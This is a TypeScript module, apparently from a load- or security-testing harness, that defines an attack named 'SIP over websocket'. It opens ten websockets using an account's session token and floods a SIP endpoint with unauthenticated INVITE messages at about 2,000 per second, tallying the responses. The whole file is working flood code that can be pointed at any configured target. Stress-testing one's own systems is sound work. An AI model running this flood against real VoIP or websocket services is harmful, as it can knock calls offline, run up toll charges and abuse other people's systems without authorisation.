import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import type { WebSocket } from 'ws'
import { type Attack, count, type Results } from '../target.ts'
import { openSocket } from './sockets.ts'

const SDP = 'v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\n'
/** Each socket sends as many a second. */
const PER_SECOND = 200
const SOCKETS = 10

/** Calls without credentials over websockets that an account's session has opened: 2,000 a second. */
export const sipInvites: Attack = {
  title: 'SIP over websocket: 2,000 INVITEs a second without credentials',
  async run(target, over) {
    const results: Results = {}
    const workers = Array.from({ length: SOCKETS }, async (_, worker) => {
      while (!over.aborted) {
        const socket = openSocket(target, 'sip', target.token)
        socket.on('message', (data) => count(results, String(data).slice(8, 11)))
        const opened = await Promise.race([
          once(socket, 'open').then(
            () => true,
            () => false,
          ),
          once(socket, 'close').then(() => false),
          sleep(1_000, false),
        ])
        count(results, opened ? 'open' : 'refused')
        if (opened) await sendInvites(socket, worker, over)
        socket.terminate()
        await sleep(100)
      }
    })
    await Promise.all(workers)
    return results
  },
}

async function sendInvites(socket: WebSocket, worker: number, over: AbortSignal): Promise<void> {
  const began = performance.now()
  for (let sent = 0; !over.aborted && socket.readyState === socket.OPEN; ) {
    const due = ((performance.now() - began) / 1_000) * PER_SECOND
    for (; sent < due; sent += 1) socket.send(invite(`${worker}-${began}-${sent}`))
    await sleep(5)
  }
}

function invite(serial: string): string {
  return `INVITE sip:1140001000@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/WS x.invalid;branch=z9hG4bK${serial}\r\nMax-Forwards: 70\r\nFrom: <sip:x@127.0.0.1>;tag=${serial}\r\nTo: <sip:1140001000@127.0.0.1>\r\nCall-ID: ${serial}\r\nCSeq: 1 INVITE\r\nContact: <sip:x@x.invalid;transport=ws>\r\nContent-Type: application/sdp\r\nContent-Length: ${SDP.length}\r\n\r\n${SDP}`
}
